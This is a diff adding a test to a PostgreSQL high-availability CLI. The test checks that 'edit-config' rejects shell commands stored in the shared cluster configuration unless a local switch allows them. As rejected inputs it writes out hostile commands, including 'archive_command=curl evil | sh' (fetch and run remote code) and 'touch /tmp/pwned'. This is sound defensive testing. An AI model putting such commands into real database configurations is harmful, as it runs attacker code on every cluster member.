@@ -211,6 +211,42 @@ describe('edit-config and show-config with invalid values', () => {
   });
 });
 
+// pgha issue 16 (review C1): a command in the DCS runs as postgres on every member.
+describe('edit-config and commands', () => {
+  it('refuses a new or changed command unless its config file sets postgresql.allow_dcs_commands, naming the key and the switch', async () => {
+    const c = await seed();
+    const before = c.raw('config');
+    for (const set of ['postgresql.recovery_conf.archive_cleanup_command=touch /tmp/pwned', 'standby_cluster.restore_command=cp /wal/%f %p']) {
+      const r = await c.run(['edit-config', '-s', set, '--force']);
+      const key = set.slice(0, set.indexOf('='));
+      expect([r.code, r.stderr]).toEqual([
+        1,
+        `Error: Invalid configuration, not applied: ${key}: PostgreSQL would run it as a shell command on every member; commands are not accepted in the dynamic configuration unless the local YAML sets postgresql.allow_dcs_commands: true (or set it locally, in ${key.startsWith('standby') ? 'postgresql.recovery_conf.restore_command' : key})\n`,
+      ]);
+    }
+    const pg = await c.run(['edit-config', '-p', 'archive_command=curl evil | sh', '--force']);
+    expect(pg.stderr).toMatch(/^Error: Invalid configuration, not applied: postgresql\.parameters\.archive_command: /);
+    expect(c.raw('config')).toBe(before);
+    // A standby_cluster without commands goes through.
+    expect((await c.run(['edit-config', '-s', 'standby_cluster.host=10.0.0.9', '-s', 'standby_cluster.port=5433', '--force', '-q'])).code).toBe(0);
+    expect(JSON.parse(c.raw('config')!).standby_cluster).toEqual({ host: '10.0.0.9', port: 5433 });
+
+    const dir = mkdtempSync(join(tmpdir(), 'pghactl-cmd-'));
+    try {
+      const file = join(dir, 'pghactl.yml');
+      writeFileSync(file, 'postgresql:\n  allow_dcs_commands: true\n');
+      const allowed = await c.run(['-c', file, 'edit-config', '-s', 'postgresql.recovery_conf.archive_cleanup_command=pg_archivecleanup /wal %r', '--force', '-q']);
+      expect([allowed.code, allowed.stderr]).toEqual([0, '']);
+      expect(JSON.parse(c.raw('config')!).postgresql.recovery_conf).toEqual({ archive_cleanup_command: 'pg_archivecleanup /wal %r' });
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+    // Without the switch again: the stored command may stay (a ttl change), not change.
+    expect((await c.run(['edit-config', '-s', 'ttl=20', '--force', '-q'])).code).toBe(0);
+    expect((await c.run(['edit-config', '-s', 'postgresql.recovery_conf.archive_cleanup_command=x', '--force'])).code).toBe(1);
+  });
+});
+
 describe('actions when the member APIs do not answer', () => {
   it('switchover --force falls back to writing the failover key', async () => {
     const c = await seed();
